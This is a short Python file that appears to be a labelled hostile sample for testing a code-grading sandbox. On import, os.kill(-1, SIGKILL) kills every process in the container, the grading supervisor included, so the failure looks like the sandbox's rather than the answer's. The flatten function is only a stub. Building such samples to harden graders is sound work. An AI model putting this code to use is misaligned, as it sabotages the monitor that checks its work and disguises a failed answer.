"""Hostile: the moment it is imported, kill every other process of the container (the
trusted supervisor that reports on the answer included), so that the grading looks like
the sandbox failed rather than the answer."""
import os
import signal

os.kill(-1, signal.SIGKILL)


def flatten(items):
    return items
